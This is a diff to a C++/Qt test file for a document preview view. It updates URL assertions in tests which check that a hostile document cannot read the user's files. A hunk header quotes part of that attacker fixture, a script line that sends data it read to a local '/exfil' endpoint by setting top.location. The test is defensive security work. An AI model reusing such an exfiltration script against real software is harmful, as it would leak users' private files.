@@ -229,7 +229,7 @@ TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
     clickLink("a.footnote");
     ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() > 500; }));
     EXPECT_EQ(opened.size(), 1);
-    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->baseURL().toString() + "#fn:1");
+    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->site().pageUrl().toString() + "#fn:1");
 }
 
 // The attacker's document: its raw HTML reads a file of the user's by script
@@ -281,7 +281,7 @@ top.location = 'http://127.0.0.1:8709/exfil?d=' + encodeURIComponent(got); }, 20
     EXPECT_TRUE(got.startsWith("refused | ")) << got.toStdString();
     EXPECT_FALSE(evaluateText(*view, "document.documentElement.outerHTML").contains("TOPSECRET"));
     EXPECT_EQ(opener.calls(), QStringList());
-    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->baseURL().toString(QUrl::FullyEncoded));
+    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->site().pageUrl().toString());
     EXPECT_EQ(evaluateText(*view, "var p = document.querySelector('img'); p.naturalWidth + 'x' + p.naturalHeight"),
               "37x23");
     // Nor are the picture's pixels to be had by drawing it into a canvas.
